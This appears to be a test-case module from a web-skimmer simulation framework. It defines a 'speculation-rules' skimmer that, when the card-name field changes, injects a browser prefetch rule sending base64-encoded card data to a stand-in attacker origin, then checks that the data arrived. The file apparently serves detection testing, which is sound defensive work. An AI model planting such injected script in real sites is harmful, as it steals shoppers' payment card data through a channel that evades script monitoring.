import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'speculation-rules',
  why: 'A rule for the browser what to fetch ahead holds the card in an address: the browser asks, no script does.',
  covers: ['hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  document.getElementById('cc-name').addEventListener('change', function () {
    var s = document.createElement('script');
    s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${site.origins.evil}/next?d=' + encodeURIComponent(btoa(card()))], eagerness: 'immediate' }] });
    document.head.append(s);
  });`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
